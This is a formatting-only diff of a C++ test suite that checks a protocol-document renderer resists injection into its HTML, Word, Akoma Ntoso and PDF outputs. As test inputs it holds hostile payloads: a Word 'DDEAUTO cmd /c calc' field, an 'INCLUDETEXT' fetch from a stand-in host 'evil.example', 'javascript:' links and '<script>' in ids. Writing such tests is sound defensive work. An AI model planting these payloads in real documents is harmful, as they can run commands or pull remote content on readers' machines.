@@ -33,7 +33,8 @@ const char* const kXmlBreak = "</w:t></w:r><w:r><w:t>injected</w:t></w:r>]]><!--
 // Character references are decoded (CommonMark) and the result is shown as text.
 const char* const kEntity = "&amp; &lt;b&gt; &#60;i&#62; &unknown;";
 const char* const kEntityShown = "& <b> <i> &unknown;";
-const char* const kField = "{ INCLUDETEXT \"http://evil.example/x.docx\" } { DDEAUTO cmd \"/c calc\" } { HYPERLINK \"javascript:alert(1)\" }";
+const char* const kField =
+    "{ INCLUDETEXT \"http://evil.example/x.docx\" } { DDEAUTO cmd \"/c calc\" } { HYPERLINK \"javascript:alert(1)\" }";
 
 std::string yaml_quoted(const std::string& s) {
     std::string out = "'";
@@ -45,15 +46,14 @@ std::string yaml_quoted(const std::string& s) {
 // heading, sub-heading, clause words, sub-item, table cell, quote, code and link text.
 std::string hostile_source(const std::string& payload) {
     return "---\ntitle: " + yaml_quoted("Title " + payload) + "\ncouncil: " + yaml_quoted("Council " + payload) +
-           "\nversion: " + yaml_quoted("1 " + payload) + "\nstatus: adopted\nadopted: 2023-04-04\nadopted_by: " +
-           yaml_quoted("Body " + payload) + "\nminute: " + yaml_quoted("M " + payload) + "\n---\n\n" +
-           "## 1. Heading " + payload + " {#intro}\n\n" +
-           "1.1 {#first} Words " + payload + " end.\n\n" +
-           "### Sub " + payload + "\n\n" +
+           "\nversion: " + yaml_quoted("1 " + payload) +
+           "\nstatus: adopted\nadopted: 2023-04-04\nadopted_by: " + yaml_quoted("Body " + payload) +
+           "\nminute: " + yaml_quoted("M " + payload) + "\n---\n\n" + "## 1. Heading " + payload + " {#intro}\n\n" +
+           "1.1 {#first} Words " + payload + " end.\n\n" + "### Sub " + payload + "\n\n" +
            "1.2 {#second} A list:\n\n- (a) {#item} Item " + payload + "\n- (b) Second *" + payload + "*\n\n" +
            "| head " + payload + " | b |\n|---|---|\n| cell " + payload + " | `code " + payload + "` |\n\n" +
-           "> Quote " + payload + "\n\n" +
-           "1.3 {#third} See [link " + payload + "](https://example.gov.uk/?q=%22a%22&b=1) and paragraph 1.1.\n";
+           "> Quote " + payload + "\n\n" + "1.3 {#third} See [link " + payload +
+           "](https://example.gov.uk/?q=%22a%22&b=1) and paragraph 1.1.\n";
 }
 
 model::Protocol read_resolved(const std::string& text) {
@@ -114,8 +114,10 @@ pugi::xml_document parse_xml(const std::string& xml, const std::string& what) {
 std::string all_text(pugi::xml_node node) {
     std::string out;
     for (pugi::xml_node n : node.children()) {
-        if (n.type() == pugi::node_pcdata || n.type() == pugi::node_cdata) out += n.value();
-        else out += all_text(n);
+        if (n.type() == pugi::node_pcdata || n.type() == pugi::node_cdata)
+            out += n.value();
+        else
+            out += all_text(n);
     }
     return out;
 }
@@ -153,7 +155,7 @@ TEST_CASE("HTML, XML and field codes in a source never become markup in any outp
         // no element or attribute comes from the text, and the words are all there.
         for (const auto& [name, bytes] : render_site(p)) {
             if (!name.ends_with(".html")) continue;
-            std::string body = bytes.substr(bytes.find('<', 1));   // after <!DOCTYPE html>
+            std::string body = bytes.substr(bytes.find('<', 1));  // after <!DOCTYPE html>
             auto doc = parse_xml(body, name);
             check_no_injected_markup(doc, name);
             if (name != "index.html") CHECK(all_text(doc).find("Words " + shown + " end.") != std::string::npos);
@@ -168,10 +170,12 @@ TEST_CASE("HTML, XML and field codes in a source never become markup in any outp
             each_element(doc, [&](pugi::xml_node e) {
                 const std::string n = e.name();
                 if (n == "w:instrText") CHECK(std::string(e.text().get()).find("INCLUDETEXT") == std::string::npos);
-                if (n == "w:fldSimple") CHECK(std::string(e.attribute("w:instr").value()).find("DDEAUTO") == std::string::npos);
+                if (n == "w:fldSimple")
+                    CHECK(std::string(e.attribute("w:instr").value()).find("DDEAUTO") == std::string::npos);
             });
             if (name == "word/document.xml") CHECK(all_text(doc).find("Words " + shown + " end.") != std::string::npos);
-            if (name == "docProps/core.xml") CHECK(all_text(doc).find("Title " + std::string(payload)) != std::string::npos);
+            if (name == "docProps/core.xml")
+                CHECK(all_text(doc).find("Title " + std::string(payload)) != std::string::npos);
         }
 
         // Akoma Ntoso: well-formed, the words are text.
@@ -189,7 +193,8 @@ TEST_CASE("HTML, XML and field codes in a source never become markup in any outp
 
 TEST_CASE("ids cannot carry markup: a malformed id is an error", "[injection]") {
     model::Diagnostics diags;
-    source::read_protocol(testing::source_with_body("## 1. A {#x\"><script>}\n\n1.1 {#a<b>} Words.\n"), "ids.md", diags);
+    source::read_protocol(testing::source_with_body("## 1. A {#x\"><script>}\n\n1.1 {#a<b>} Words.\n"), "ids.md",
+                          diags);
     CHECK(testing::formatted(diags).find("ids.md:10:5: error: malformed clause id") != std::string::npos);
 }
 
@@ -233,7 +238,7 @@ TEST_CASE("javascript:, data: and other unsafe links are refused in every output
         CHECK(h.find("vbscript") == std::string::npos);
         CHECK(h.find("file:") == std::string::npos);
     }
-    CHECK(std::count(hrefs.begin(), hrefs.end(), "https://ok.example.gov.uk/") >= 3);   // HTML, docx, AKN
+    CHECK(std::count(hrefs.begin(), hrefs.end(), "https://ok.example.gov.uk/") >= 3);  // HTML, docx, AKN
     CHECK(pdf.find("/uri (javascript") == std::string::npos);
     CHECK(pdf.find("/s /javascript") == std::string::npos);
     CHECK(pdf.find("/uri (data:") == std::string::npos);
